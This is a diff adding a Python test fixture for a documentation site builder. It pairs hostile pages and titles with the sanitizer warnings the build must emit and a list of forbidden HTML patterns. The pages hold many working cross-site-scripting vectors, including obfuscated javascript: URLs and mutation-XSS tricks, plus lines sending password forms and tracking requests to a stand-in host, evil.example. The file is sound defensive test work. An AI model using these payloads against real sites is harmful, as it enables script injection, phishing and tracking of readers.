@@ -1,0 +1,183 @@
+"""A small docs tree of hostile pages and titles, and where the build must warn about them.
+
+Each attack tries to run `window.__pwned = "<name>"` in the reader's browser; the site tests check the
+warnings and the HTML, the browser tests that no attack ran.
+"""
+
+from __future__ import annotations
+
+HOSTILE_TREE = {
+    "polydocs.yml": """
+        iframe_hosts:
+          - huggingface.co
+        trusted:
+          paths: ["en/internal/*.md"]
+    """,
+    "en/_toctree.yml": """
+        - title: Start
+          sections:
+          - local: index
+            title: Home
+          - local: attack
+            title: <img src=x onerror="window.__pwned='nav'">Attack
+          - local: internal/notes
+            title: Notes
+    """,
+    "es/_toctree.yml": """
+        - title: Empezar
+          sections:
+          - local: index
+            title: Inicio
+          - local: attack
+            title: Ataque</title><script>window.__pwned='title'</script>
+          - local: meta
+            title: Meta
+    """,
+    "en/index.md": """
+        # Home
+
+        A normal page with an embed polydocs makes, which must survive:
+
+        <iframe src="https://huggingface.co/spaces/x/y" title="A space" width="600" height="400"></iframe>
+
+        And [a link](https://example.com/) and ![an image](https://example.com/a.png).
+
+        <hfoptions id="way">
+        <hfoption id="first">
+
+        The first way.
+
+        </hfoption>
+        <hfoption id="second">
+
+        The second way.
+
+        </hfoption>
+        </hfoptions>
+    """,
+    "en/attack.md": """
+        # Attack
+
+        <script>window.__pwned = "script"</script>
+
+        <img src="x" onerror="window.__pwned = 'img'">
+
+        <svg onload="window.__pwned = 'svg'"><rect width="1" height="1"/></svg>
+
+        Inline <iframe srcdoc="<script>parent.__pwned = 'srcdoc'</script>"></iframe> frame.
+
+        [lower case](javascript:window.__pwned=11)
+
+        <a href="JaVaScRiPt&colon;window.__pwned='entity'">mixed case</a>
+
+        <a href="data:text/html,<script>alert('data')</script>">data</a>
+
+        <form action="https://evil.example/"><input name="q" type="password"></form>
+
+        <object data="https://evil.example/x.swf"></object>
+
+        <style>body { background: url(https://evil.example/track) }</style>
+
+        <div style="position: fixed; inset: 0">overlay</div>
+
+        <details open ontoggle="window.__pwned='details'"><summary>s</summary>x</details>
+
+        <a href="  java&#x09;script:window.__pwned='tab'">tab</a>
+
+        <svg><a href="javascript:window.__pwned='svg-a'"><text y="10">x</text></a></svg>
+
+        <div id="__config">{"search": "https://evil.example/worker.js"}</div>
+
+        <base href="https://evil.example/">
+
+        <template><img src=x onerror="window.__pwned='template'"></template>
+
+        <embed src="https://evil.example/y.swf">
+
+        ```html
+        <script>shown as code, never removed</script>
+        ```
+    """,
+    "es/attack.md": """
+        # Ataque
+
+        <p>Texto <b onmouseover="window.__pwned='hover'">negrita</b></p>
+
+        <noscript><p title="</noscript><img src=x onerror=window.__pwned='noscript'>"></noscript>
+
+        <math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='math'">
+
+        <!--><img src=x onerror="window.__pwned='comment'">-->
+
+        <svg><style><img src=x onerror="window.__pwned='svg-style'"></style></svg>
+
+        [click](JAVASCRIPT:window.__pwned=13)
+
+        ![image](javascript:window.__pwned=15)
+    """,
+    "es/meta.md": """
+        ---
+        title: '</title><script>window.__pwned="meta-title"</script>'
+        description: '"><script>window.__pwned="meta-description"</script>'
+        ---
+
+        # Meta
+
+        Front matter is contributors' text too.
+    """,
+    "en/internal/notes.md": """
+        # Notes
+
+        A trusted page keeps its HTML; the Content-Security-Policy still stops inline scripts.
+
+        <script>window.__pwned = "trusted"</script>
+    """,
+}
+
+# `page:line: what` for every warning the build must give (the message's start is enough).
+EXPECTED_WARNINGS = [
+    "en/_toctree.yml:5: unsafe-html the title",
+    "es/_toctree.yml:5: unsafe-html the title",
+    "en/attack.md:3: unsafe-html removed the `<script>` element",
+    "en/attack.md:5: unsafe-html removed the event handler `onerror` of `<img>`",
+    "en/attack.md:7: unsafe-html removed the event handler `onload` of `<svg>`",
+    "en/attack.md:9: unsafe-html removed the `<iframe>` element",
+    'en/attack.md:11: unsafe-html removed `href="javascript:window.__pwned=11"` of `<a>`',
+    "en/attack.md:13: unsafe-html removed `href=\"JaVaScRiPt:window.__pwned='entity'\"` of `<a>`",
+    'en/attack.md:15: unsafe-html removed `href="data:text/html,',
+    "en/attack.md:17: unsafe-html removed the `<form>` element",
+    "en/attack.md:17: unsafe-html removed `type` of `<input>`",
+    "en/attack.md:19: unsafe-html removed the `<object>` element",
+    "en/attack.md:21: unsafe-html removed the `<style>` element",
+    "en/attack.md:23: unsafe-html removed `style` of `<div>`: the style property `position` is not allowed",
+    "en/attack.md:25: unsafe-html removed the event handler `ontoggle` of `<details>`",
+    "en/attack.md:27: unsafe-html removed `href=",
+    "en/attack.md:29: unsafe-html removed `href=\"javascript:window.__pwned='svg-a'\"` of `<a>`",
+    "en/attack.md:31: unsafe-html removed `id` of `<div>`: the id `__config` is reserved",
+    "en/attack.md:33: unsafe-html removed the `<base>` element",
+    "en/attack.md:35: unsafe-html removed the `<template>` element",
+    "en/attack.md:37: unsafe-html removed the `<embed>` element",
+    "es/attack.md:3: unsafe-html removed the event handler `onmouseover` of `<b>`",
+    "es/attack.md:5: unsafe-html removed the `<noscript>` element",
+    "es/attack.md:7: unsafe-html removed the `<mglyph>` element",
+    "es/attack.md:9: unsafe-html removed `><img src=x onerror=",
+    "es/attack.md:11: unsafe-html removed the `<style>` element",
+    'es/attack.md:13: unsafe-html removed `href="JAVASCRIPT:window.__pwned=13"` of `<a>`',
+    'es/attack.md:15: unsafe-html removed `src="javascript:window.__pwned=15"` of `<img>`',
+]
+
+# What no published page may hold outside code: found in the HTML between the article tags.
+FORBIDDEN_IN_ARTICLE = [
+    r"<script",
+    r"\son[a-z]+\s*=",
+    r"(?:href|src)\s*=\s*\"\s*(?:javascript|data:text)",
+    r"srcdoc",
+    r"<form",
+    r"<object",
+    r"<embed",
+    r"<style",
+    r"<base",
+    r"<noscript",
+    r'id="__config"',
+    r"position:\s*fixed",
+]
